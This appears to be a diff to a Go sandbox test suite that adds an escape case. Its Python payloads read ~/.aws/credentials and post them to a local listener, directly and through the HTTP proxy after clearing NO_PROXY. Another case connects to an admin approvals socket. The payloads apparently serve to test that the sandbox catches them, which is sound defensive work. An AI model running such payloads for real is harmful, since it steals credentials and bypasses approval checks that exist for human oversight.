@@ -113,6 +113,11 @@ func sneaks(w *world, caught *atomic.Bool, listener string) []sneak {
 				return "import os,socket\ns=socket.create_connection(('127.0.0.1'," + listener + "),3)\ns.sendall(b'POST / HTTP/1.0\\r\\n\\r\\n'+open(os.path.expanduser('~/.aws/credentials'),'rb').read())"
 			},
 			worked: func(*world) bool { return caught.Load() }},
+		{name: "a secret is posted through the proxy", told: "",
+			python: func(*world) string {
+				return "import os,urllib.request as u\np=os.environ.get('HTTP_PROXY')\nos.environ['no_proxy']=os.environ['NO_PROXY']=''\no=u.build_opener(u.ProxyHandler({'http':p} if p else {}))\no.open(u.Request('http://127.0.0.1:" + listener + "/',data=open(os.path.expanduser('~/.aws/credentials'),'rb').read() if not p else b'aws_secret_canary'),timeout=3)"
+			},
+			worked: func(*world) bool { return caught.Load() }},
 		{name: "the socket of approvals", told: "",
 			python: func(w *world) string {
 				return "import socket\ns=socket.socket(socket.AF_UNIX)\ns.connect('" + home.Home(w.home+"/.writ").AdminSock() + "')\nopen('reached','w').write('admin')"
